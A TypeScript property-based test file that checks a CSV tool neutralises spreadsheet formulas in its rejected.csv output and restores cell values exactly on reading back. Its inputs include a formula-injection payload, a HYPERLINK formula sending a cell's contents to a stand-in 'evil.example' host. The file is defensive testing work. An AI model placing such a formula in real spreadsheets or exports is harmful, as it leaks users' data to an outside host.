/**
 * Formula neutralisation: no cell of a written rejected.csv starts a formula, and the
 * tool reads every cell back exactly as the user wrote it.
 */
import { PassThrough } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { WriteStream } from 'node:fs';
import { RejectedCsvWriter } from '../report/rejected-csv.js';
import { neutralise, restore } from '../model/neutralise.js';
import { RecordReader } from './record-reader.js';

const FORMULA_START = /^[=+\-@\t\r]/;
const cell = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.constantFrom(
    '=HYPERLINK("https://evil.example/?"&A3,"x")',
    '+1',
    '-5',
    '-5e3',
    '+3.25',
    '@SUM(A1)',
    '\tx',
    '\r\n=1',
    "'",
    "''",
    "'=1",
    '-',
    '=',
    '"quoted, with comma"',
  ),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', "'", '\t'), fc.string({ maxLength: 8 }))
    .map(([a, b]) => a + b),
);

async function writeAndRead(header: string[], rows: string[][]): Promise<string[][]> {
  const sink = new PassThrough();
  const chunks: Buffer[] = [];
  sink.on('data', (c: Buffer) => chunks.push(c));
  const writer = new RejectedCsvWriter(sink as unknown as WriteStream, header);
  for (const [n, fields] of rows.entries())
    await writer.write({ line: n + 2, fields, errors: ['invalid-number (a)'] });
  await writer.close();
  const bytes = Buffer.concat(chunks);
  const reader = new RecordReader({ restoreRejected: true });
  const out: string[][] = [];
  for await (const { records } of reader.batches([bytes])) {
    for (let i = 0; i < records.count; i++) out.push(records.fields(i));
  }
  return out;
}

describe('formula neutralisation', () => {
  it('restore undoes neutralise for every string, and no neutralised cell starts a formula', () => {
    fc.assert(
      fc.property(cell, (value) => {
        const written = neutralise(value);
        expect(restore(written)).toBe(value);
        if (FORMULA_START.test(written)) expect(written).toMatch(/^[+-]?[\d.]/);
      }),
      { numRuns: 5000 },
    );
    expect(neutralise('=1+2')).toBe("'=1+2");
    expect(neutralise('-5')).toBe('-5');
    expect(neutralise('-5 apples')).toBe("'-5 apples");
    expect(neutralise("'already")).toBe("''already");
  });

  it('a rejected.csv written by the tool reads back cell for cell, header included', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc
          .integer({ min: 1, max: 4 })
          .chain((width) =>
            fc.tuple(
              fc.array(cell, { minLength: width, maxLength: width }),
              fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 6 }),
            ),
          ),
        async ([header, rows]) => {
          const back = await writeAndRead(header, rows);
          expect(back[0]?.slice(0, header.length)).toEqual(header);
          expect(back.slice(1).map((r) => r.slice(0, header.length))).toEqual(rows);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('leaves other files alone: an apostrophe is data unless the header is a rejected.csv’s', async () => {
    const reader = new RecordReader({ restoreRejected: true });
    const out: string[][] = [];
    for await (const { records } of reader.batches([Buffer.from("a,b\n'x,'=1\n")]))
      for (let i = 0; i < records.count; i++) out.push(records.fields(i));
    expect(out).toEqual([
      ['a', 'b'],
      ["'x", "'=1"],
    ]);
  });
});
